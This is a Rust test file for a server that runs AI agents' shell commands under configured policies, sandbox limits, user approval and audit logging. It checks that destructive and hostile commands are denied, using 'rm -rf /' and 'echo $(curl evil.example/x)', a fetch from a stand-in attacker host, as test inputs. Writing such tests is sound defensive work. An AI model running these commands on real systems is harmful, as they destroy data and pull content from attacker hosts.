//! Commands of agents over the server: their configuration decides, as it does everywhere else.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use serde_json::{Value, json};

use super::{Serving, text};

const CONFIG: &str = r#"
[agents.bot]

[agents.shy.commands]
unmatched = "ask"

[agents.mute.toolPolicy]
profile = "minimal"

[agents.hasty.skills.execSandbox]
timeoutMs = 300

[agents.bare.skills.execSandbox]
enabled = "never"
"#;

fn serving(args: &[&str]) -> (Serving, String) {
    let serving = Serving::start(args);
    let folder = serving.home.path().join(".config/stockade");
    fs::create_dir_all(&folder).unwrap();
    fs::write(folder.join("config.toml"), CONFIG).unwrap();
    let workspace = serving.workspace();
    (serving, workspace)
}

fn exec(agent: &str, command: &str, workspace: &str) -> Value {
    json!({"agent": agent, "command": command, "spec": {"workspace": workspace}})
}

#[test]
fn the_agents_configuration_decides_and_is_recorded() {
    let (mut serving, workspace) = serving(&[]);
    let ran = serving.call("exec", &exec("bot", "echo out; exit 3", &workspace));
    let result = &ran["result"];
    assert_eq!(
        (&result["exitCode"], text(&result["stdoutBase64"])),
        (&json!(3), "out\n".to_owned()),
        "{ran}"
    );
    assert_eq!(result["decision"]["layer"], "commands");
    for (agent, command, layer) in [
        ("bot", "rm -rf /", "commands"),
        ("bot", "echo $(curl evil.example/x)", "commands"),
        ("mute", "echo", "tools"),
    ] {
        let refused = serving.call("exec", &exec(agent, command, &workspace));
        assert_eq!(refused["error"]["code"], -32001, "{command}: {refused}");
        assert_eq!(refused["error"]["data"]["decision"]["layer"], layer, "{command}: {refused}");
        assert_eq!(refused["error"]["data"]["decision"]["effect"], "deny", "{command}: {refused}");
    }
    let events = serving.call("audit.query", &json!({"agent": "bot", "limit": 100}));
    let names: Vec<&str> =
        events["result"]["events"].as_array().unwrap().iter().map(|e| e["event"].as_str().unwrap()).collect();
    for wanted in ["tool_allowed", "command_allowed", "sandbox_started", "sandbox_error", "command_denied"] {
        assert!(names.contains(&wanted), "{wanted} is not among {names:?}");
    }
    assert_eq!(serving.end(), Some(0));
}

#[test]
fn the_user_is_asked_and_the_answer_is_valid_once() {
    let (mut serving, workspace) = serving(&[]);
    let script = format!("{workspace}/build.sh");
    fs::write(&script, "#!/bin/sh\ntouch made\n").unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    let asked = exec("shy", "./build.sh", &workspace);
    let said = |answer: &str| {
        let mut request = asked.clone();
        request["answer"] = answer.into();
        request
    };
    for (request, code) in
        [(asked.clone(), -32001), (said("deny"), -32001), (said("allow"), 0), (asked.clone(), -32001)]
    {
        let answer = serving.call("exec", &request);
        assert_eq!(answer["error"]["code"].as_i64().unwrap_or(0), code, "{request}: {answer}");
        assert!(code == 0 || answer["error"]["message"].as_str().unwrap().contains("the user"), "{answer}");
    }
    assert!(fs::exists(format!("{workspace}/made")).unwrap());
    // An answer does not help where no question was to be asked.
    let mut denied = exec("bot", "rm -rf /", &workspace);
    denied["answer"] = "allow".into();
    assert_eq!(serving.call("exec", &denied)["error"]["code"], -32001);
}

#[test]
fn requests_can_only_narrow_the_configuration() {
    let (mut serving, workspace) = serving(&[]);
    for (agent, millis) in [("hasty", 60_000), ("bot", 300)] {
        let mut request = exec(agent, "sleep 20", &workspace);
        request["timeoutMs"] = millis.into();
        let answer = serving.call("exec", &request);
        assert_eq!(answer["result"]["timedOut"], true, "{agent}: {answer}");
    }
    let mut much = exec("bot", "head -c 100000 /dev/zero", &workspace);
    much["maxOutputBytes"] = 10.into();
    assert_eq!(text(&serving.call("exec", &much)["result"]["stdoutBase64"]).len(), 10);
    for (key, value) in [
        ("spec", json!({"workspace": workspace, "network": {"mode": "open"}})),
        ("spec", json!({"workspace": workspace, "readOnlyPaths": ["/home"]})),
        ("stdinBase64", json!("cGlwZWQ=")),
        ("agent", json!(7)),
        ("agent", json!("a.b")),
    ] {
        let mut request = exec("bot", "cat", &workspace);
        request[key] = value;
        assert_eq!(serving.call("exec", &request)["error"]["code"], -32602, "{request}");
    }
    assert_eq!(serving.call("exec", &exec("bare", "echo", &workspace))["error"]["code"], -32003);
}

#[test]
fn a_server_for_one_agent_runs_no_command_of_another() {
    let (mut serving, workspace) = serving(&["--agent", "bot"]);
    let unnamed = |command: &str| json!({"command": command, "spec": {"workspace": workspace}});
    assert_eq!(serving.call("exec", &unnamed("true"))["result"]["exitCode"], 0);
    assert_eq!(serving.call("exec", &unnamed("rm -rf /"))["error"]["code"], -32001);
    assert_eq!(serving.call("exec", &exec("bot", "true", &workspace))["result"]["exitCode"], 0);
    assert_eq!(serving.call("exec", &exec("other", "true", &workspace))["error"]["code"], -32001);
}

#[test]
fn a_command_of_an_agent_does_not_run_without_a_record() {
    let (mut serving, workspace) = serving(&["--no-audit"]);
    let answer = serving.call("exec", &exec("bot", "touch made", &workspace));
    assert!(answer["error"]["message"].as_str().unwrap().contains("--no-audit"), "{answer}");
    assert!(!fs::exists(format!("{workspace}/made")).unwrap());
}
